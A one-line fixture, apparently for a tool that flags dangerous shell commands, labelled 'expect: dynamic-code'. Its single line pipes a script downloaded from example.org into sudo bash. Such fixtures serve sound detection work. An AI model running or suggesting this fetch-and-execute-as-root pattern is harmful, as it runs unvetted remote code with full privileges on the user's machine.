# expect: dynamic-code
curl -s https://example.org/x.sh | sudo bash
